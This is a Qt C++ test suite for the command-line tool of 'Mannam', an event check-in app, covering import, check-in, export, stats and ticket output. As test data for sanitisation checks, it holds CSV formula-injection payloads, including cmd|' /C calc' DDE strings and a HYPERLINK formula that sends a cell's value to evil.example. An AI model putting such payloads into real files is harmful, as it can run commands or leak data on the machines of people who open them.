        const Run run = importText(event, u"broken.csv"_s, bytes, extra);
        QVERIFY2(run.exitCode == 5, run.describe());
        for (const QString &message : messages)
            QVERIFY2(run.err.contains(message), qPrintable(message + u"\n"_s + QString::fromUtf8(run.describe())));
        QVERIFY(run.out.isEmpty());
        QCOMPARE(readBytes(event), before);
        QCOMPARE(statsJson(event).value(u"registered"_s).toInt(-1), 3);
    }

    void import_missingFiles_data()
    {
        QTest::addColumn<bool>("eventExists");
        QTest::addColumn<bool>("csvExists");
        QTest::addColumn<int>("exitCode");
        QTest::addColumn<QString>("message");
        QTest::addRow("no csv") << true << false << 5 << u"Cannot read"_s;
        QTest::addRow("no event file") << false << true << 4 << u"There is no event file"_s;
    }

    void import_missingFiles()
    {
        QFETCH(bool, eventExists);
        QFETCH(bool, csvExists);
        QFETCH(int, exitCode);
        QFETCH(QString, message);
        const QString event = eventExists ? newEvent() : path(u"missing.mannam"_s);
        QVERIFY(!event.isEmpty());
        const QString csv = path(u"people.csv"_s);
        if (csvExists)
            QVERIFY(writeBytes(csv, "이름\n김철수\n"));
        const Run run = mannam({u"import"_s, event, csv});
        QVERIFY2(run.exitCode == exitCode, run.describe());
        QVERIFY2(run.err.contains(message), run.describe());
        QCOMPARE(QFileInfo::exists(event), eventExists);
    }

    void import_reimport_leavesCheckInsUntouched()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QString hong = ticketCodeOf(event, u"홍길동"_s);
        QVERIFY(mannam({u"checkin"_s, event, hong, u"--desk"_s, u"Desk 1"_s}).exitCode == 0);
        QVERIFY(mannam({u"checkin"_s, event, ticketCodeOf(event, u"김민지"_s), u"--desk"_s, u"Desk 2"_s}).exitCode == 0);
        QVERIFY(mannam({u"checkin"_s, event, ticketCodeOf(event, u"김민지"_s), u"--desk"_s, u"Desk 2"_s, u"--exit"_s})
                        .exitCode
                == 0);
        const Table scansBefore = exportTable(event, u"--scans"_s);
        QCOMPARE(scansBefore.rows.size(), 3);

        // The updated export changes 홍길동's phone and the ticket type of 김민지.
        const QString updated = AttendeesHeader
                + u"홍길동,hong@example.org,010-0000-1111,\"만남, 커뮤니티\",일반,R-1001\n"
                  "김민지,minji@example.org,01022223333,AI 스터디,Speaker,R-1002\n"_s;
        const Run run = importText(event, u"updated.csv"_s, updated.toUtf8());
        QVERIFY2(run.exitCode == 0, run.describe());
        QCOMPARE(countsLine(run.out), u"Added 0, updated 2, unchanged 0, skipped 0."_s);

        QCOMPARE(exportTable(event, u"--scans"_s).bytes, scansBefore.bytes);
        const QJsonObject stats = statsJson(event);
        QCOMPARE(stats.value(u"checked_in"_s).toInt(-1), 2);
        QCOMPARE(stats.value(u"inside"_s).toInt(-1), 1);
        const Table attendance = exportTable(event, u"--attendance"_s);
        const int row = attendance.rowOf(u"name"_s, u"홍길동"_s);
        QCOMPARE(attendance.cell(row, u"checked_in"_s), u"yes"_s);
        QCOMPARE(attendance.cell(row, u"desk"_s), u"Desk 1"_s);
        QCOMPARE(attendance.cell(row, u"ticket_code"_s), hong);

        const Run again = mannam({u"checkin"_s, event, hong, u"--desk"_s, u"Desk 3"_s});
        QVERIFY2(again.exitCode == 1 && again.out.contains(u"Desk 1"_s), again.describe());
    }

    // ---------------------------------------------------------------- checkin

    void checkin_firstScan_exitsZeroAndNamesPerson()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const Run run = mannam({u"checkin"_s, event, ticketCodeOf(event, u"홍길동"_s), u"--desk"_s, u"Desk 1"_s});
        QVERIFY2(run.exitCode == 0, run.describe());
        QCOMPARE(run.out, u"Admitted: 홍길동\n"_s);
    }

    void checkin_secondScan_exitsOneAndNamesFirstDesk()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QString code = ticketCodeOf(event, u"홍길동"_s);
        QVERIFY(mannam({u"checkin"_s, event, code, u"--desk"_s, u"Desk 1"_s}).exitCode == 0);

        const Run run = mannam({u"checkin"_s, event, code, u"--desk"_s, u"Desk 2"_s});
        QVERIFY2(run.exitCode == 1, run.describe());
        static const QRegularExpression already(u"^Already checked in: 홍길동 at \\d\\d:\\d\\d(:\\d\\d)? at Desk 1\\n$"_s);
        QVERIFY2(already.match(run.out).hasMatch(), run.describe());
    }

    void checkin_exitThenEntry_welcomesBack()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QString code = ticketCodeOf(event, u"김민지"_s);
        const auto scan = [&](const QStringList &extra) {
            return mannam(QStringList{u"checkin"_s, event, code, u"--desk"_s, u"Door"_s} + extra);
        };

        const Run neverIn = scan({u"--exit"_s});
        QVERIFY2(neverIn.exitCode == 2 && neverIn.out.contains(u"has not checked in"_s), neverIn.describe());
        QVERIFY(scan({}).exitCode == 0);
        const Run out = scan({u"--exit"_s});
        QVERIFY2(out.exitCode == 0 && out.out == u"Exit recorded: 김민지\n"_s, out.describe());
        const Run outAgain = scan({u"--exit"_s});
        QVERIFY2(outAgain.exitCode == 1 && outAgain.out.startsWith(u"Already left: 김민지"_s), outAgain.describe());
        const Run back = scan({});
        QVERIFY2(back.exitCode == 0 && back.out == u"Welcome back: 김민지\n"_s, back.describe());
    }

    void checkin_refused_exitsTwoWithTheReason_data()
    {
        QTest::addColumn<QString>("kind");
        QTest::addColumn<QString>("reason");
        QTest::addRow("wrong check digit") << u"checkDigit"_s << u"check digit"_s;
        QTest::addRow("another event's code") << u"otherEvent"_s << u"another event"_s;
        QTest::addRow("unknown imported-style code") << u"unknownForeign"_s << u"not registered for this event"_s;
        QTest::addRow("unknown code of this event") << u"unknownOurs"_s << u"not registered for this event"_s;
        QTest::addRow("cancelled registration") << u"cancelled"_s << u"cancelled"_s;
        QTest::addRow("badge code at the door") << u"badge"_s << u"badge code"_s;
        QTest::addRow("garbage payload") << u"garbage"_s << u"not registered for this event"_s;
    }

    void checkin_refused_exitsTwoWithTheReason()
    {
        QFETCH(QString, kind);
        QFETCH(QString, reason);
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        QVERIFY(importText(event, u"cancel.csv"_s,
                           u"이름,이메일,상태\n취소한사람,gone@example.org,취소\n"_s.toUtf8())
                        .exitCode
                == 0);
        const QString hong = ticketCodeOf(event, u"홍길동"_s);
        const QString tag = hong.left(TicketCode::TagLength);
        QCOMPARE(tag.size(), 4);

        QString code;
        if (kind == u"checkDigit") {
            code = hong;
            code.back() = QChar(u'0' + (code.back().digitValue() + 1) % 10);
        } else if (kind == u"otherEvent") {
            const QString otherTag = u"%1"_s.arg((tag.toInt() + 1) % 10000, 4, 10, QChar(u'0'));
            code = TicketCode::generate(otherTag, {});
        } else if (kind == u"unknownForeign") {
            code = u"FESTA-7731-QX"_s;
        } else if (kind == u"unknownOurs") {
            code = TicketCode::generate(tag, {});
        } else if (kind == u"cancelled") {
            code = ticketCodeOf(event, u"취소한사람"_s);
            QVERIFY(!code.isEmpty());
        } else if (kind == u"badge") {
            auto file = EventFile::open(event, Database::Access::ReadOnly);
            for (const Attendee &a : file->store().attendees()) {
                if (a.name == u"홍길동")
                    code = a.badgeCode;
            }
            QVERIFY(!code.isEmpty());
        } else if (kind == u"garbage") {
            code = u"=cmd|' /C calc'!A0\t"_s + QString(300, u'x');
        }

        const Run run = mannam({u"checkin"_s, event, code, u"--desk"_s, u"Desk 1"_s});
        QVERIFY2(run.exitCode == 2, run.describe());
        QVERIFY2(run.out.startsWith(u"Refused: "_s) && run.out.contains(reason), run.describe());
        // Refused scans are logged but admit nobody.
        const QJsonObject stats = statsJson(event);
        QCOMPARE(stats.value(u"scans"_s).toInt(-1), 1);
        QCOMPARE(stats.value(u"checked_in"_s).toInt(-1), 0);
    }

    void checkin_codeTypedInGroups_admits_data()
    {
        QTest::addColumn<QString>("separator");
        QTest::addRow("spaces") << u" "_s;
        QTest::addRow("dashes") << u"-"_s;
    }

    void checkin_codeTypedInGroups_admits()
    {
        QFETCH(QString, separator);
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QString code = ticketCodeOf(event, u"홍길동"_s);
        QCOMPARE(code.size(), TicketCode::Length);
        QString typed = u"  "_s;
        for (int i = 0; i < code.size(); i += 4)
            typed += (i > 0 ? separator : QString()) + code.mid(i, 4);
        typed += u' ';

        const Run run = mannam({u"checkin"_s, event, typed, u"--desk"_s, u"Desk 1"_s});
        QVERIFY2(run.exitCode == 0 && run.out == u"Admitted: 홍길동\n"_s, run.describe());
        QCOMPARE(exportTable(event, u"--scans"_s).cell(0, u"code"_s), code);
    }

    void checkin_importedPlatformCode_admits()
    {
        const QString event = newEvent();
        QVERIFY(!event.isEmpty());
        const Run import = importText(event, u"luma.csv"_s,
                                      u"name,email,QR code\nGrace Hopper,grace@example.org,LUMA-gst-8f3K2\n"_s.toUtf8());
        QVERIFY2(import.exitCode == 0 && import.out.contains(u"QR code → code"_s), import.describe());
        QCOMPARE(ticketCodeOf(event, u"Grace Hopper"_s), u"LUMA-gst-8f3K2"_s);

        const Run run = mannam({u"checkin"_s, event, u"LUMA-gst-8f3K2"_s, u"--desk"_s, u"Desk 1"_s});
        QVERIFY2(run.exitCode == 0 && run.out == u"Admitted: Grace Hopper\n"_s, run.describe());
    }

    void checkin_missingEventFile_exitsFour()
    {
        const QString event = path(u"nowhere.mannam"_s);
        const Run run = mannam({u"checkin"_s, event, u"1234"_s});
        QVERIFY2(run.exitCode == 4, run.describe());
        QVERIFY2(run.err.contains(u"There is no event file at "_s + event), run.describe());
        QCOMPARE(folderListing(), QStringList());
    }

    void checkin_notAnEventFile_exitsFourAndLeavesItAlone_data()
    {
        QTest::addColumn<QString>("kind");
        QTest::addRow("a text file") << u"text"_s;
        QTest::addRow("an empty file") << u"empty"_s;
        QTest::addRow("another program's SQLite database") << u"sqlite"_s;
        QTest::addRow("a folder") << u"folder"_s;
    }

    void checkin_notAnEventFile_exitsFourAndLeavesItAlone()
    {
        QFETCH(QString, kind);
        const QString file = path(u"event.mannam"_s);
        if (kind == u"text") {
            QVERIFY(writeBytes(file, "이름,이메일\n김철수,kim@example.org\n"));
        } else if (kind == u"empty") {
            QVERIFY(writeBytes(file, QByteArray()));
        } else if (kind == u"folder") {
            QVERIFY(QDir(m_dir->path()).mkdir(u"event.mannam"_s));
        } else {
            const QString connection = u"foreign-sqlite"_s;
            {
                QSqlDatabase db = QSqlDatabase::addDatabase(u"QSQLITE"_s, connection);
                db.setDatabaseName(file);
                QVERIFY(db.open());
                QSqlQuery query(db);
                QVERIFY(query.exec(u"CREATE TABLE notes (id INTEGER PRIMARY KEY, text TEXT)"_s));
                QVERIFY(query.exec(u"INSERT INTO notes (text) VALUES ('hello')"_s));
                db.close();
            }
            QSqlDatabase::removeDatabase(connection);
        }
        const QByteArray before = readBytes(file);
        const QStringList listing = folderListing();

        const Run run = mannam({u"checkin"_s, file, u"1234"_s, u"--desk"_s, u"Desk 1"_s});
        QVERIFY2(run.exitCode == 4, run.describe());
        const QString expected = kind == u"folder" ? u"cannot be read"_s : u"is not a Mannam event file"_s;
        QVERIFY2(run.err.contains(expected), run.describe());
        QCOMPARE(readBytes(file), before);
        QCOMPARE(folderListing(), listing);  // no -wal or -shm beside it
    }

    void checkin_readOnlyEventFile_exitsFourAndLeavesItAlone()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QString code = ticketCodeOf(event, u"홍길동"_s);
        QVERIFY(QFile::setPermissions(event, QFile::ReadOwner | QFile::ReadGroup | QFile::ReadOther));
        const auto restore = qScopeGuard([&] {
            QFile::setPermissions(event, QFile::ReadOwner | QFile::WriteOwner | QFile::ReadGroup | QFile::ReadOther);
        });
        if (QFileInfo(event).isWritable())
            QSKIP("file permissions are not enforced for this user (running as root?): a 0444 file is writable");
        const QByteArray before = readBytes(event);

        const Run run = mannam({u"checkin"_s, event, code, u"--desk"_s, u"Desk 1"_s});
        QVERIFY2(run.exitCode == 4, run.describe());
        QVERIFY2(run.err.contains(u"read-only"_s), run.describe());
        QCOMPARE(readBytes(event), before);
    }

    // Another program holds the write lock for longer than the busy timeout (3 s).
    void checkin_eventFileLockedByAnotherProgram_exitsFourAndLogsNothing()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QString code = ticketCodeOf(event, u"홍길동"_s);
        const QString connection = u"other-program"_s;
        {
            QSqlDatabase db = QSqlDatabase::addDatabase(u"QSQLITE"_s, connection);
            db.setDatabaseName(event);
            QVERIFY(db.open());
            QSqlQuery lock(db);
            QVERIFY(lock.exec(u"BEGIN IMMEDIATE"_s));

            const Run run = mannam({u"checkin"_s, event, code, u"--desk"_s, u"Desk 1"_s});
            QVERIFY2(run.exitCode == 4, run.describe());
            QVERIFY2(run.err.contains(u"locked by another program"_s), run.describe());
            QVERIFY(run.out.isEmpty());  // nothing said "admitted"
            QVERIFY(lock.exec(u"ROLLBACK"_s));
            lock.finish();
            db.close();
        }
        QSqlDatabase::removeDatabase(connection);
        QCOMPARE(statsJson(event).value(u"scans"_s).toInt(-1), 0);
        const Run after = mannam({u"checkin"_s, event, code, u"--desk"_s, u"Desk 1"_s});
        QVERIFY2(after.exitCode == 0, after.describe());
    }

    // ---------------------------------------------------------------- export

    void export_attendance_oneRowPerAttendeeWithFirstCheckIn()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QString hong = ticketCodeOf(event, u"홍길동"_s);
        QVERIFY(mannam({u"checkin"_s, event, hong, u"--desk"_s, u"Desk 2"_s}).exitCode == 0);
        QVERIFY(mannam({u"checkin"_s, event, hong, u"--desk"_s, u"Desk 2"_s, u"--exit"_s}).exitCode == 0);
        QVERIFY(mannam({u"checkin"_s, event, hong, u"--desk"_s, u"Desk 3"_s}).exitCode == 0);

        const QString out = path(u"attendance.csv"_s);
        const Run run = mannam({u"export"_s, event, u"--attendance"_s, out});
        QVERIFY2(run.exitCode == 0 && run.out.contains(u"Wrote "_s + out), run.describe());
        const QByteArray bytes = readBytes(out);
        QVERIFY(bytes.startsWith("\xEF\xBB\xBF" "name,"));
        QVERIFY(bytes.contains("\r\n"));  // RFC 4180 line ends

        const Table table = exportTable(event, u"--attendance"_s);
        QVERIFY2(table.problem.isEmpty(), qPrintable(table.problem));
        QCOMPARE(table.header,
                 QStringList({u"name"_s, u"email"_s, u"phone"_s, u"affiliation"_s, u"ticket_type"_s, u"status"_s,
                              u"checked_in"_s, u"first_check_in"_s, u"desk"_s, u"source"_s, u"external_id"_s,
                              u"ticket_code"_s, u"consent"_s}));
        QCOMPARE(table.rows.size(), 3);
        for (const QStringList &row : table.rows)
            QCOMPARE(row.size(), table.header.size());
        QCOMPARE(table.column(u"checked_in"_s), QStringList({u"yes"_s, u"no"_s, u"no"_s}));
        // The first admission, not the re-entry: its desk, local time with the offset.
        QCOMPARE(table.cell(0, u"desk"_s), u"Desk 2"_s);
        const QString first = table.cell(0, u"first_check_in"_s);
        static const QRegularExpression iso(u"^\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}\\+09:00$"_s);
        QVERIFY2(iso.match(first).hasMatch(), qPrintable(first));
        const QDateTime at = QDateTime::fromString(first, Qt::ISODateWithMs);
        QVERIFY(at.isValid());
        QVERIFY(qAbs(at.secsTo(QDateTime::currentDateTimeUtc())) < 600);
        QCOMPARE(exportTable(event, u"--scans"_s).cell(0, u"time"_s), first);
        QCOMPARE(table.cell(1, u"first_check_in"_s), QString());
        QCOMPARE(table.cell(1, u"desk"_s), QString());
    }

    void export_scans_oneRowPerLogEntry()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QString hong = ticketCodeOf(event, u"홍길동"_s);
        QString misread = hong;
        misread.back() = QChar(u'0' + (misread.back().digitValue() + 1) % 10);
        const QList<QStringList> scans = {
            {hong, u"Desk 1"_s}, {hong, u"Desk 2"_s}, {hong, u"Desk 2"_s, u"--exit"_s}, {misread, u"Desk 1"_s},
            {u"=1+1"_s, u"Desk 1"_s}};
        for (const QStringList &scan : scans) {
            QStringList arguments{u"checkin"_s, event, scan.at(0), u"--desk"_s, scan.at(1)};
            arguments << scan.mid(2);
            QVERIFY(mannam(arguments).finished);
        }

        const Table table = exportTable(event, u"--scans"_s);
        QVERIFY2(table.problem.isEmpty(), qPrintable(table.problem));
        QCOMPARE(table.header, QStringList({u"id"_s, u"time"_s, u"time_utc"_s, u"desk"_s, u"action"_s, u"result"_s,
                                            u"code"_s, u"attendee"_s, u"undoes_id"_s, u"nonce"_s}));
        QCOMPARE(table.rows.size(), scans.size());
        QCOMPARE(table.column(u"result"_s), QStringList({u"admitted"_s, u"already_inside"_s, u"exited"_s,
                                                         u"invalid_code"_s, u"unknown_code"_s}));
        QCOMPARE(table.column(u"action"_s),
                 QStringList({u"entry"_s, u"entry"_s, u"exit"_s, u"entry"_s, u"entry"_s}));
        QCOMPARE(table.column(u"desk"_s),
                 QStringList({u"Desk 1"_s, u"Desk 2"_s, u"Desk 2"_s, u"Desk 1"_s, u"Desk 1"_s}));
        QCOMPARE(table.column(u"attendee"_s),
                 QStringList({u"홍길동"_s, u"홍길동"_s, u"홍길동"_s, QString(), QString()}));
        QCOMPARE(table.cell(3, u"code"_s), misread);
        QCOMPARE(table.cell(4, u"code"_s), u"'=1+1"_s);  // a scanned formula is neutralised too
        static const QRegularExpression local(u"^\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}\\+09:00$"_s);
        static const QRegularExpression utc(u"^\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}Z$"_s);
        QSet<QString> nonces;
        for (int r = 0; r < table.rows.size(); ++r) {
            QVERIFY2(local.match(table.cell(r, u"time"_s)).hasMatch(), qPrintable(table.cell(r, u"time"_s)));
            QVERIFY2(utc.match(table.cell(r, u"time_utc"_s)).hasMatch(), qPrintable(table.cell(r, u"time_utc"_s)));
            QCOMPARE(QDateTime::fromString(table.cell(r, u"time"_s), Qt::ISODateWithMs),
                     QDateTime::fromString(table.cell(r, u"time_utc"_s), Qt::ISODateWithMs));
            nonces.insert(table.cell(r, u"nonce"_s));
        }
        QCOMPARE(nonces.size(), scans.size());
    }

    void export_formulaLikeNames_areNeutralised_data()
    {
        QTest::addColumn<QString>("name");
        QTest::addRow("=HYPERLINK") << u"=HYPERLINK(\"http://evil.example/?\"&A1,\"클릭\")"_s;
        QTest::addRow("+") << u"+1+cmd|' /C calc'!A0"_s;
        QTest::addRow("-") << u"-2+3"_s;
        QTest::addRow("@") << u"@SUM(1+1)*cmd|' /C calc'!A0"_s;
    }

    void export_formulaLikeNames_areNeutralised()
    {
        QFETCH(QString, name);
        const QString event = newEvent();
        QVERIFY(!event.isEmpty());
        const Run import = importText(event, u"evil.csv"_s,
                                      (u"이름,이메일\n"_s + csvCell(name) + u",evil@example.org\n"_s).toUtf8());
        QVERIFY2(import.exitCode == 0, import.describe());
        const QString code = exportTable(event, u"--attendance"_s).cell(0, u"ticket_code"_s);
        QVERIFY(mannam({u"checkin"_s, event, code, u"--desk"_s, u"Desk 1"_s}).exitCode == 0);

        QCOMPARE(exportTable(event, u"--attendance"_s).cell(0, u"name"_s), u'\'' + name);
        QCOMPARE(exportTable(event, u"--scans"_s).cell(0, u"attendee"_s), u'\'' + name);
    }

    void export_neitherOrBothFlags_exitsThree_data()
    {
        QTest::addColumn<QStringList>("flags");
        QTest::addRow("neither") << QStringList();
        QTest::addRow("both") << QStringList{u"--attendance"_s, u"--scans"_s};
    }

    void export_neitherOrBothFlags_exitsThree()
    {
        QFETCH(QStringList, flags);
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QString out = path(u"out.csv"_s);
        const Run run = mannam(QStringList{u"export"_s, event} + flags + QStringList{out});
        QVERIFY2(run.exitCode == 3, run.describe());
        QVERIFY2(run.err.contains(u"choose one of --attendance or --scans"_s), run.describe());
        QVERIFY(!QFileInfo::exists(out));
    }

    void export_unwritableOutput_exitsSix_data()
    {
        QTest::addColumn<QString>("output");
        QTest::addRow("folder that does not exist") << u"no/such/folder/out.csv"_s;
        QTest::addRow("path is a folder") << u"afolder"_s;
    }

    void export_unwritableOutput_exitsSix()
    {
        QFETCH(QString, output);
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        QVERIFY(QDir(m_dir->path()).mkdir(u"afolder"_s));
        const QStringList listing = folderListing(Sidecars::Exclude);
        for (const QString &flag : {u"--attendance"_s, u"--scans"_s}) {
            const Run run = mannam({u"export"_s, event, flag, path(output)});
            QVERIFY2(run.exitCode == 6, run.describe());
            QVERIFY2(run.err.contains(u"Cannot write"_s), run.describe());
            QCOMPARE(folderListing(Sidecars::Exclude), listing);
            QVERIFY(QDir(path(u"afolder"_s)).isEmpty());
        }
    }

    // A slip of the shell (`export event.mannam --scans event.mannam`) must not
    // replace the event with a CSV file.
    void export_ontoTheEventFileItself_refusesAndKeepsTheEvent()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QByteArray before = readBytes(event);
        const Run run = mannam({u"export"_s, event, u"--scans"_s, event});
        QVERIFY2(run.exitCode == 3 || run.exitCode == 6, run.describe());
        QCOMPARE(readBytes(event), before);
        QCOMPARE(statsJson(event).value(u"registered"_s).toInt(-1), 3);
    }

    void export_missingEventFile_exitsFour()
    {
        const Run run = mannam({u"export"_s, path(u"nowhere.mannam"_s), u"--scans"_s, path(u"out.csv"_s)});
        QVERIFY2(run.exitCode == 4 && run.err.contains(u"There is no event file"_s), run.describe());
        QVERIFY(!QFileInfo::exists(path(u"out.csv"_s)));
    }

    // ---------------------------------------------------------------- stats

    void stats_json_countsAfterScans()
    {
        const QString event = eventAfterAnEvening();
        QVERIFY(!event.isEmpty());
        const Run run = mannam({u"stats"_s, event, u"--json"_s});
        QVERIFY2(run.exitCode == 0, run.describe());
        QJsonParseError error;
        const QJsonDocument document = QJsonDocument::fromJson(run.out.toUtf8(), &error);
        QVERIFY2(error.error == QJsonParseError::NoError, qPrintable(error.errorString()));
        QVERIFY(document.isObject());
        const QJsonObject expected{{u"event"_s, u"AI 스터디 밋업"_s}, {u"registered"_s, 3}, {u"cancelled"_s, 1},
                                   {u"checked_in"_s, 2},  {u"inside"_s, 1},     {u"scans"_s, 6},
                                   {u"meetings"_s, 0},    {u"winners"_s, 0}};
        QCOMPARE(document.object(), expected);
    }

    void stats_text_countsAfterScans()
    {
        const QString event = eventAfterAnEvening();
        QVERIFY(!event.isEmpty());
        const Run run = mannam({u"stats"_s, event});
        QVERIFY2(run.exitCode == 0, run.describe());
        QCOMPARE(run.out, u"Event:         AI 스터디 밋업\n"
                          "Registered:    3\n"
                          "Cancelled:     1\n"
                          "Checked in:    2\n"
                          "Inside now:    1\n"
                          "Scans:         6\n"
                          "Meetings:      0\n"
                          "Bingo winners: 0\n"_s);
    }

    void stats_doesNotChangeTheEventFile()
    {
        const QString event = eventAfterAnEvening();
        QVERIFY(!event.isEmpty());
        const QByteArray before = readBytes(event);
        QVERIFY(mannam({u"stats"_s, event}).exitCode == 0);
        QCOMPARE(readBytes(event), before);
    }

    // ---------------------------------------------------------------- tickets

    void tickets_writesPdfMailMergeAndOnePngPerAttendee()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        QVERIFY(importText(event, u"cancel.csv"_s, u"이름,상태\n취소한사람,취소\n"_s.toUtf8()).exitCode == 0);
        const Table attendance = exportTable(event, u"--attendance"_s);
        const QDir out(path(u"tickets/out"_s));  // created on the way

        const Run run = mannam({u"tickets"_s, event, u"--out"_s, out.path()});
        QVERIFY2(run.exitCode == 0, run.describe());
        QVERIFY2(run.out.contains(u"Wrote 3 ticket(s)"_s), run.describe());
        QVERIFY2(run.out.contains(u"Skipped 1 cancelled registration(s)."_s), run.describe());

        QVERIFY(readBytes(out.filePath(u"tickets.pdf"_s)).startsWith("%PDF-"));
        const QByteArray mailMerge = readBytes(out.filePath(u"mail-merge.csv"_s));
        QVERIFY(mailMerge.startsWith("\xEF\xBB\xBF"));
        const QList<QStringList> rows = parseCsvText(QString::fromUtf8(mailMerge.mid(3)));
        QCOMPARE(rows.size(), 4);
        QCOMPARE(rows.at(0), QStringList({u"name"_s, u"email"_s, u"ticket_code"_s, u"png_file"_s}));

        QStringList expectedPngs;
        for (int r = 0; r < attendance.rows.size(); ++r) {
            if (attendance.cell(r, u"status"_s) == u"registered")
                expectedPngs << attendance.cell(r, u"ticket_code"_s) + u".png"_s;
        }
        expectedPngs.sort();
        QCOMPARE(expectedPngs.size(), 3);
        const QStringList pngs = QDir(out.filePath(u"png"_s)).entryList(QDir::Files, QDir::Name);
        QCOMPARE(pngs, expectedPngs);
        for (const QString &png : pngs)
            QVERIFY(readBytes(out.filePath(u"png/"_s + png)).startsWith("\x89PNG\r\n\x1a\n"));
        for (int r = 1; r < rows.size(); ++r)
            QVERIFY2(QFileInfo::exists(out.filePath(rows.at(r).value(3))), qPrintable(rows.at(r).value(3)));
    }

    void tickets_unwritableOutput_exitsSix()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QString notAFolder = path(u"notes.txt"_s);
        QVERIFY(writeBytes(notAFolder, "a file where the folder should be\n"));
        const Run run = mannam({u"tickets"_s, event, u"--out"_s, notAFolder});
        QVERIFY2(run.exitCode == 6, run.describe());
        QVERIFY2(run.err.contains(notAFolder), run.describe());
        QCOMPARE(readBytes(notAFolder), QByteArray("a file where the folder should be\n"));
    }
};

} // namespace mannam

QTEST_GUILESS_MAIN(mannam::TestCli)
#include "tst_cli.moc"
